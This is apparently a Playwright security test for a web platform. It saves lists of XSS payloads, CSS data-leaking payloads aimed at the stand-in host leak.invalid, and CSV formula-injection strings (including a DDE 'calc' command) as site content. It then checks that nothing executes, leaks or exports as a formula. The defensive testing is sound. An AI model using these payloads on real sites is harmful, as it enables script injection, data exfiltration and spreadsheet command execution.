import { randomUUID } from 'node:crypto'
import { type Browser as Chromium, chromium, type Page } from '@playwright/test'
import { ensureBrowser } from '../../scripts/lib/browser.mjs'
import { expectOk } from '../built/support/expect-ok'
import { startInstallation } from '../built/support/installation'
import { createWorld, signInOwner, type World } from '../built/support/world'
import { prepareBuiltStage } from './support/built-stage'
import { Expectations, type Proof } from './support/proof'

const ADMIN = 'first.admin@example.com'
/** Nothing of a payload may ask for anything there. */
const LEAK = 'leak.invalid'
const QUIET_MS = 400

const HTML = [
  '<script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<a href="javascript:ran()">go</a>',
  '<a href="java&#x09;script:ran()">go</a>',
  '<a href="data:text/html,<script>ran()</script>">go</a>',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<video><source onerror=ran()></video>',
  '<marquee onstart=ran()>x</marquee>',
  '<form action="javascript:ran()"><button>go</button></form>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<base href="https://leak.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://leak.invalid/">',
  '<link rel="stylesheet" href="https://leak.invalid/a.css">',
  '</script><script>ran()</script>',
  '</style><script>ran()</script>',
  '</title></textarea><img src=x onerror=ran()>',
  '"><img src=x onerror=ran()>',
  "' onmouseover=ran() x='",
  '" onmouseover="ran()" x="',
  '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  '<template><script>ran()</script></template><div is=x onclick=ran()>x</div>',
  '{{constructor.constructor("ran()")()}}${ran()}<%= ran() %>',
]
const CSS = [
  '@import url(https://leak.invalid/a.css);',
  '@import "https://leak.invalid/b.css";',
  '@\\69mport url(https://leak.invalid/c.css);',
  'h1 { background: url(https://leak.invalid/d) }',
  'h1 { background: u\\72l(https://leak.invalid/e) }',
  'h1 { background-image: image-set("https://leak.invalid/f" 1x) }',
  '@font-face { font-family: a; src: url(https://leak.invalid/g) } body { font-family: a }',
  'input[value^=a] { background: url(https://leak.invalid/h) }',
  'h1 { list-style: url(//leak.invalid/i) } h1 { cursor: url(//leak.invalid/j), auto }',
  'h1 { width: expression(ran()) }',
  'h1 { -moz-binding: url(https://leak.invalid/k) }',
  'h1 { behavior: url(https://leak.invalid/l) }',
  '</style><script>ran()</script>',
  'h1 { color: red } /* </style><img src=x onerror=ran()> */',
  ':root { --a: url(https://leak.invalid/m) } h1 { background: var(--a) }',
  '@namespace url(https://leak.invalid/n); @charset "x";',
  'a::after { content: url(https://leak.invalid/o) }',
  '@supports (background: url(https://leak.invalid/p)) { h1 { background: url(https://leak.invalid/p) } }',
  '@media screen { @import url(https://leak.invalid/q); h1 { border-image: url(https://leak.invalid/q) } }',
  '@layer a { h1 { mask: url(https://leak.invalid/r); filter: url(https://leak.invalid/r#a) } }',
]
const FORMULAS = ['=ran()', '+ran()', '-ran()', '@ran()', '\t=ran()', '\r=ran()', '=cmd|"/c calc"!A1', ' =ran()']

/**
 * Proof 14: about 200 scripts, leaking styles and formulas, saved as pages, CSS, menu entries, names of challenges, rewards and
 * members through the calls of a built server. A browser then opens the pages that show them, on site and console: no script
 * runs, no element has a handler or an address that would, nothing is asked of another host; and in the exported CSV no cell is
 * a formula.
 */
export const run: Proof = async ({ databaseUrl, isQuick }) => {
  const expectations = new Expectations()
  const stage = await prepareBuiltStage(databaseUrl, '14-script-payloads')
  const installation = await startInstallation({ FIRST_ADMIN_EMAIL: ADMIN }, stage)
  Object.assign(process.env, await ensureBrowser())
  const chromiumBrowser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH,
    args: ['--no-sandbox', '--host-resolver-rules=MAP * 127.0.0.1'],
  })
  const every = isQuick ? 6 : 1
  const some = <Item>(items: readonly Item[]) => items.filter((_, at) => at % every === 0)
  try {
    const world = await createWorld(installation, { owner: await signInOwner(installation, ADMIN) })
    const saved = { stored: 0, refused: 0 }
    const note = ({ status, text }: { status: number; text: string }) => {
      if (status < 300) saved.stored++
      else if (status < 500) saved.refused++
      else throw new Error(`${status}: ${text.slice(0, 300)}`)
      return status < 300
    }
    const html = await saveHtml(world, some(HTML), note)
    const formulas = await saveMembers(world, some([...FORMULAS, ...HTML.slice(0, 12)]), note)

    const visits = createVisits(chromiumBrowser, expectations)
    const site = `http://${world.slug}.localhost:${installation.port}`
    const signedOut = await visits.open(site)
    for (const path of ['/', ...html.paths]) await signedOut.visit(path)
    const reader = await world.createMember()
    const member = await visits.open(site, reader.site.cookieHeader())
    for (const path of ['/', '/my-account', '/search?query=go', ...html.signedInPaths]) await member.visit(path)
    const styled = await saveStyles(world, some(CSS), note, () => signedOut.visit('/'))
    const owner = await visits.open(`http://localhost:${installation.port}`, world.owner.cookieHeader())
    const program = `/admin/v2/programs/${world.programId}`
    const views = ['users', 'challenges', 'rewards', 'dashboard', 'dashboard/actions', 'settings/program']
    const lists = [...views.map((view) => `${program}/${view}`), '/admin/v2/organization/audit_log']
    for (const path of [...lists, ...html.consolePaths]) await owner.visit(path)

    const csv = await exportMembers(world)
    const cells = csv
      .split('\n')
      .slice(1)
      .flatMap((line) => line.split(','))
    const open = cells.filter((cell) => /^"?\s*[=+@]|^"?\s*-[^\d]/.test(cell))
    expectations.same(open, [], 'formulas in the exported CSV')
    return expectations.result({
      'payloads saved': saved.stored,
      'payloads refused': saved.refused,
      'styles saved, each shown on home': styled,
      'formulas and scripts among names of members': formulas,
      'pages opened': visits.count(),
      'scripts that ran': visits.ran(),
      'requests to other hosts': visits.leaks(),
    })
  } finally {
    await chromiumBrowser.close()
    await installation.stop()
  }
}

type Note = (answer: { status: number; text: string }) => boolean

/** @returns the addresses that show them */
const saveHtml = async (world: World, payloads: readonly string[], note: Note) => {
  const { owner, programId } = world
  const paths: string[] = []
  const signedInPaths: string[] = []
  const consolePaths: string[] = []
  const menu: object[] = []
  const settings = `/admin/v2/programs/${programId}/settings/program`
  for (const [at, payload] of payloads.entries()) {
    const page = await owner.post<{ doc?: { id: number } }>('/api/program-pages?depth=0', {
      ...{ program: programId, title: payload, slug: `page-${at}`, content_html: `<p>go</p>${payload}` },
      _status: 'published',
    })
    if (note(page)) paths.push(`/page-${at}`)
    if (page.body.doc) consolePaths.push(`${settings}/program-pages/${page.body.doc.id}`)
    const challenge = await world
      .createChallenge({ name: payload.slice(0, 60), caption: payload.slice(0, 60), description: payload })
      .catch(() => null)
    note({ status: challenge ? 200 : 422, text: '' })
    if (challenge) signedInPaths.push(`/challenge/${challenge.identifier}`)
    if (challenge) consolePaths.push(`/admin/v2/challenges/${challenge.id}/edit`)
    const reward = await world.createReward({ name: payload.slice(0, 60), description: payload }).catch(() => null)
    note({ status: reward ? 200 : 422, text: '' })
    if (reward) signedInPaths.push(`/reward/${reward.identifier}`)
    if (reward) consolePaths.push(`/admin/v2/rewards/${reward.id}/edit`)
    menu.push({ name: payload.slice(0, 60), navigation_url: `/page-${at}` })
  }
  for (const item of menu)
    note(await owner.post('/api/navigation-menus?depth=0', { program: programId, ...item, _status: 'published' }))
  const links = payloads.flatMap((payload) => /javascript:[^"]*|data:[^"]*/.exec(payload)?.[0] ?? [])
  for (const navigation_url of links) {
    const answer = await owner.post('/api/navigation-menus?depth=0', { program: programId, name: 'go', navigation_url })
    note(answer)
    if (answer.status < 300) throw new Error(`a menu entry leads to ${navigation_url}`)
  }
  return { paths, signedInPaths, consolePaths }
}

const saveMembers = async ({ api }: World, names: readonly string[], note: Note): Promise<number> => {
  let stored = 0
  for (const [at, first_name] of names.entries()) {
    const person = { email: `hostile-${at}@example.com`, first_name, last_name: first_name, terms_accepted: true }
    const answer = await api.post('/v1/participants', person, { 'idempotency-key': randomUUID() })
    if (note(answer)) stored++
  }
  return stored
}

/** Each is published and looked at. */
const saveStyles = async (world: World, styles: readonly string[], note: Note, look: () => Promise<void>) => {
  const { owner, programId } = world
  let stored = 0
  for (const css of styles) {
    if (!note(await owner.call('PUT', `/admin/v2/programs/${programId}/template_details`, { body: { css } }))) continue
    const published = await owner.post(`/admin/v2/programs/${programId}/publish`, {})
    // Two of which nothing is left are the same.
    if (published.status !== 422) expectOk(published, 'publishing')
    stored++
    await look()
  }
  return stored
}

const exportMembers = async ({ owner, programId }: World): Promise<string> =>
  expectOk(await owner.get<string>(`/admin/v2/programs/${programId}/participants.csv`), 'the export')

/** Opens pages, and notices what must not happen there. */
const createVisits = (browser: Chromium, expectations: Expectations) => {
  let count = 0
  let ran = 0
  let leaks = 0
  const watch = async (page: Page) => {
    await page.exposeFunction('ran', () => ran++)
    page.on('dialog', (dialog) => void dialog.dismiss())
    page.on('request', (request) => {
      const { hostname } = new URL(request.url())
      if (hostname === LEAK) leaks++
    })
  }
  const open = async (base: string, cookie = '') => {
    const context = await browser.newContext({ viewport: { width: 1366, height: 900 } })
    const cookies = cookie.split('; ').filter(Boolean)
    await context.addCookies(
      cookies.map((pair) => ({
        name: pair.slice(0, pair.indexOf('=')),
        value: pair.slice(pair.indexOf('=') + 1),
        url: base,
      })),
    )
    const page = await context.newPage()
    await watch(page)
    return {
      visit: async (path: string) => {
        const [ranBefore, leaksBefore] = [ran, leaks]
        const go = () => page.goto(`${base}${path}`, { waitUntil: 'load' })
        // The page before may still be on its way to another one.
        const answer = await go().catch(go)
        await page.waitForTimeout(QUIET_MS)
        count++
        expectations.expect((answer?.status() ?? 0) < 500, `${path}: ${answer?.status()}`)
        // Some pages lead to another one.
        const armed = await page.evaluate(listArmed).catch(async () => {
          await page.waitForLoadState()
          return page.evaluate(listArmed)
        })
        expectations.same(armed, [], `${path}: armed elements`)
        expectations.same(ran - ranBefore, 0, `${path}: scripts that ran`)
        expectations.same(leaks - leaksBefore, 0, `${path}: requests to another host`)
      },
    }
  }
  return { open, count: () => count, ran: () => ran, leaks: () => leaks }
}

/**
 * Elements that would run something when touched. In the page, whose own parser reads the addresses. Functions with a name
 * inside it would need esbuild's helper, which the page doesn't have.
 */
const listArmed = (): string[] => {
  const addresses = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href']
  return [...document.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes]
      .filter(({ name, value }) => {
        if (name.startsWith('on')) return value.includes('ran(')
        const { pathname, protocol } = (addresses.includes(name) && URL.parse(value, location.href)) || {}
        return protocol === 'javascript:' || (protocol === 'data:' && pathname?.startsWith('text'))
      })
      .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
  )
}
